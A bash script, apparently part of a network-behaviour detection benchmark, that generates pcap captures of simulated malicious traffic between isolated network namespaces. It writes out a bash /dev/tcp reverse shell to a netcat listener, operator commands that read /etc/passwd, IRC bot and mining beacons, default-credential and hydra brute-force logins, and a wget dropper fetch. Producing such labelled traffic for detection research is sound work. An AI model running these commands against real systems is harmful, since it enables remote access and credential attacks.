#!/usr/bin/env bash
# Quiet command-and-control sessions made with real tools, one TCP session each on a port no IoT device uses,
# and quiet lateral steps:
#   bash bench/behavior/gen-quiet-c2.sh [OUTDIR]        (root; Debian: netcat-openbsd socat ngircd sic curl python3 hydra wget mosquitto mosquitto-clients tcpdump)
# Two network namespaces joined by a veth pair: the "device" 10.99.0.10 (02:99:00:00:00:10) and the "internet"
# 10.99.0.1 (02:99:00:00:00:01), the addresses test-data/behavior/beacon/splice.py maps onto a real capture.
# Each capture is taken on the device's side:
#   revshell-nc-4444  bash -i >& /dev/tcp/…/4444 to an `nc -l` whose operator types 8 commands (~60 s)
#   irc-bot-6667      sic joins #bots on ngircd, idles with the server's PINGs, says two lines, quits (~4 min)
#   stratum-3333      one connection to a "pool" on 3333, a JSON-RPC share submitted every 15 s and
#                     acknowledged, stratum's shape (~4 min; socat answers each line)
# and quiet lateral steps, the far end a neighbour on the LAN (10.99.0.31, splice.py --peer lan):
#   web-admin-lan     curl to the neighbour's web admin page, then 6 default-credential logins (HTTP basic
#                     auth, 1 s apart) — an IoT worm's way in; python3's http.server answers (~7 s)
#   hydra-http-8080   hydra guessing 18 logins (3 users, 6 passwords) for HTTP basic auth on the neighbour's 8080, one task
#   wget-dropper-8000 wget fetching a 20 kB script from a neighbour's web server on 8000 (a dropper)
#   mqtt-1883         mosquitto_pub publishing 5 commands to a broker on the neighbour (one connection each)
#   rtsp-554          curl asking a neighbour's RTSP server on 554 for its stream (OPTIONS, DESCRIBE), 3 times
set -euo pipefail
OUT=${1:-/work/behavior-bench-quiet-c2}
mkdir -p "$OUT"
A=(ip netns exec nmlq-a)
B=(ip netns exec nmlq-b)
W=""
cleanup() {
  ip netns del nmlq-a 2>/dev/null || true
  ip netns del nmlq-b 2>/dev/null || true
  if [ -n "$W" ]; then rm -rf "$W"; fi
}
trap cleanup EXIT
cleanup
W=$(mktemp -d)
ip netns add nmlq-a
ip netns add nmlq-b
ip link add nmlqa type veth peer name nmlqb
ip link set nmlqa netns nmlq-a
ip link set nmlqb netns nmlq-b
"${A[@]}" ip link set nmlqa name eth0
"${B[@]}" ip link set nmlqb name eth0
"${A[@]}" ip link set eth0 address 02:99:00:00:00:10
"${B[@]}" ip link set eth0 address 02:99:00:00:00:01
"${A[@]}" ip addr add 10.99.0.10/24 dev eth0
"${B[@]}" ip addr add 10.99.0.1/24 dev eth0
for ns in nmlq-a nmlq-b; do
  ip netns exec $ns ip link set eth0 up
  ip netns exec $ns ip link set lo up
  # Real segment sizes on the wire, not 64 kB offloaded ones.
  ip netns exec $ns ethtool -K eth0 tx off rx off gso off tso off gro off >/dev/null 2>&1 || true
done

TCPDUMP=0
start_capture() {
  "${A[@]}" tcpdump -i eth0 -n -s 0 -U -w "$OUT/$1.pcap" >/dev/null 2>&1 &
  TCPDUMP=$!
  sleep 1
}
stop_capture() {
  sleep 1
  kill "$TCPDUMP"
  wait "$TCPDUMP" 2>/dev/null || true
  echo "gen-quiet-c2: $1 $(tcpdump -r "$OUT/$1.pcap" 2>/dev/null | wc -l) packets"
}

cat >"$W/operator.sh" <<'EOS'
sleep 2
for c in id 'uname -a' 'cat /etc/passwd | head -5' 'ls -la /tmp' 'ps aux | head' 'ip addr' 'df -h' exit; do
  echo "$c"
  sleep $((RANDOM % 5 + 3))
done
EOS
start_capture revshell-nc-4444
"${B[@]}" timeout 90 bash -c "bash $W/operator.sh | nc -l -p 4444 >/dev/null" &
LISTENER=$!
sleep 1
"${A[@]}" timeout 80 bash -c 'bash -i >& /dev/tcp/10.99.0.1/4444 0>&1' >/dev/null 2>&1 || true
wait "$LISTENER" || true
stop_capture revshell-nc-4444

cat >"$W/ngircd.conf" <<EOS
[Global]
Name = irc.example.net
Listen = 10.99.0.1
Ports = 6667
PidFile = $W/ngircd.pid
MotdPhrase = hi
ServerUID = root
PingTimeout = 30
[Options]
PAM = no
Ident = no
DNS = no
[Channel]
Name = #bots
EOS
"${B[@]}" /usr/sbin/ngircd -n -f "$W/ngircd.conf" >/dev/null 2>&1 &
IRCD=$!
sleep 1
start_capture irc-bot-6667
(
  sleep 3
  echo ':j #bots'
  sleep 60
  echo ':m #bots ready'
  sleep 60
  echo ':m #bots uid=0(root)'
  sleep 100
  echo ':q'
) | "${A[@]}" timeout 240 sic -h 10.99.0.1 -p 6667 -n "bot$RANDOM" >/dev/null 2>&1 || true
stop_capture irc-bot-6667
kill "$IRCD" 2>/dev/null || true

cat >"$W/pool.sh" <<'EOS'
while IFS= read -r line; do printf '{"id":1,"result":true,"error":null}\n'; done
EOS
"${B[@]}" timeout 260 socat TCP-LISTEN:3333,reuseaddr EXEC:"bash $W/pool.sh" &
POOL=$!
sleep 1
start_capture stratum-3333
"${A[@]}" timeout 250 bash -c 'for i in $(seq 1 16); do
  printf "{\"id\":%d,\"method\":\"mining.submit\",\"params\":[\"w1\",\"job%d\",\"00000000\",\"5f3a%04d\",\"a1b2c3d4\"]}\n" $i $i $i
  sleep 15
done | nc -q 2 10.99.0.1 3333' >/dev/null || true
stop_capture stratum-3333
kill "$POOL" 2>/dev/null || true

"${B[@]}" ip addr add 10.99.0.31/24 dev eth0
mkdir -p "$W/www/cgi-bin"
echo '<html>admin</html>' >"$W/www/index.html"
(cd "$W/www" && exec "${B[@]}" timeout 60 python3 -m http.server 80 --bind 10.99.0.31 >/dev/null 2>&1) &
WEB=$!
sleep 1
start_capture web-admin-lan
"${A[@]}" timeout 50 bash -c 'curl -s -m 5 -o /dev/null http://10.99.0.31/
for c in admin:admin admin:1234 root:root admin:password user:user root:12345; do
  curl -s -m 5 -o /dev/null -u "$c" http://10.99.0.31/cgi-bin/login.cgi
  sleep 1
done' || true
stop_capture web-admin-lan
kill "$WEB" 2>/dev/null || true

# A web server on the neighbour's 8080 that asks for a password (401) whatever is sent: hydra guesses on.
cat >"$W/basic401.py" <<'EOS'
import http.server
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(401)
        self.send_header('WWW-Authenticate', 'Basic realm="admin"')
        self.send_header('Content-Length', '0')
        self.end_headers()
    def log_message(self, *a):
        pass
http.server.ThreadingHTTPServer(('10.99.0.31', 8080), H).serve_forever()
EOS
printf '%s\n' admin root user >"$W/users.txt"
printf '%s\n' admin 1234 12345 password root default >"$W/pw.txt"
"${B[@]}" timeout 60 python3 "$W/basic401.py" >/dev/null 2>&1 &
WEB=$!
sleep 1
start_capture hydra-http-8080
"${A[@]}" timeout 50 hydra -L "$W/users.txt" -P "$W/pw.txt" -t 1 -W 1 -s 8080 10.99.0.31 http-get / >/dev/null 2>&1 || true
stop_capture hydra-http-8080
kill "$WEB" 2>/dev/null || true

head -c 20000 /dev/urandom | base64 >"$W/www/x.sh"
(cd "$W/www" && exec "${B[@]}" timeout 30 python3 -m http.server 8000 --bind 10.99.0.31 >/dev/null 2>&1) &
WEB=$!
sleep 1
start_capture wget-dropper-8000
"${A[@]}" timeout 20 wget -q -O /dev/null http://10.99.0.31:8000/x.sh || true
stop_capture wget-dropper-8000
kill "$WEB" 2>/dev/null || true

# mosquitto 2 listens on localhost only unless told otherwise.
printf 'listener 1883 10.99.0.31\nallow_anonymous true\n' >"$W/mosquitto.conf"
"${B[@]}" timeout 40 mosquitto -c "$W/mosquitto.conf" >/dev/null 2>&1 &
BROKER=$!
sleep 1
start_capture mqtt-1883
for c in 'relay on' 'relay off' 'ota http://10.99.0.31:8000/x.bin' 'reboot' 'relay on'; do
  "${A[@]}" timeout 5 mosquitto_pub -h 10.99.0.31 -p 1883 -t devices/plug/cmd -m "$c" || true
  sleep 2
done
stop_capture mqtt-1883
kill "$BROKER" 2>/dev/null || true

"${B[@]}" timeout 40 socat TCP-LISTEN:554,bind=10.99.0.31,reuseaddr,fork \
  SYSTEM:'read -r l; printf "RTSP/1.0 200 OK\\r\\nCSeq: 1\\r\\nPublic: OPTIONS, DESCRIBE, SETUP, PLAY\\r\\n\\r\\n"' &
RTSP=$!
sleep 1
start_capture rtsp-554
for i in 1 2 3; do
  "${A[@]}" timeout 5 curl -s -m 3 -o /dev/null rtsp://10.99.0.31:554/live.sdp || true
  "${A[@]}" timeout 5 curl -s -m 3 -o /dev/null -X DESCRIBE rtsp://10.99.0.31:554/live.sdp || true
  sleep 3
done
stop_capture rtsp-554
kill "$RTSP" 2>/dev/null || true
